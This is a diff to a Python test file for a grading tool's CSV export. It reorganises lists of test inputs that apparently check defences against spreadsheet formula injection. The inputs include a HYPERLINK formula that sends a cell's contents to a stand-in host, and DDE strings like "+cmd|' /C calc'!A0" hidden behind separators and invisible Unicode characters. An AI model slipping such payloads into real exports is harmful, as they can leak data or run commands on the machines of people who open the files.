@@ -19,50 +19,14 @@ from grading.report.grades import GradedClass, save_graded, write_grades_csv
 from grading.rubric.rubric import parse_rubric
 
 FORMULA = '=HYPERLINK("http://x/"&A1)'
-HOSTILE = [
-    f"{before}{formula}"
-    for before in (
-        "",
-        ";",
-        "a;",
-        "a; ",
-        'a;"',
-        "a,",
-        "a, ",
-        "a\t",
-        "a ",
-        'a "',
-        "a\n",
-        "a\r",
-        "\t",
-        " ",
-        "\u00a0",
-        "a;\u200b",
-        "\u00ad",
-        "a;\u202e\u2066",
-        "a \u200b",
-        "a \u3000",
-    )
-    for formula in (FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "＝1+1")
+BEFORE = [
+    *("", ";", "a;", "a; ", 'a;"', "a,", "a, ", "a\t", "a ", 'a "', "a\n", "a\r", "\t", " "),
+    *("\u00a0", "a;\u200b", "\u00ad", "a;\u202e\u2066", "a \u200b", "a \u3000"),
 ]
-NAMES = [
-    "O'Neill",
-    "=cmd",
-    "-5",
-    "+49 123",
-    "@home",
-    "'=x",
-    "D'-A",
-    "",
-    "-",
-    "1,5",
-    "−3",
-    "'",
-    "''-5",
-    "a;=b",
-    "x - y = z",
-    "#1",
-]
+FORMULAS = (FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "＝1+1")
+HOSTILE = [f"{before}{formula}" for before in BEFORE for formula in FORMULAS]
+NAMES = ["O'Neill", "=cmd", "-5", "+49 123", "@home", "'=x", "D'-A", "", "-", "1,5", "−3", "'", "''-5", "a;=b"]
+NAMES += ["x - y = z", "#1"]
 HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 4 (701)"]
 
 
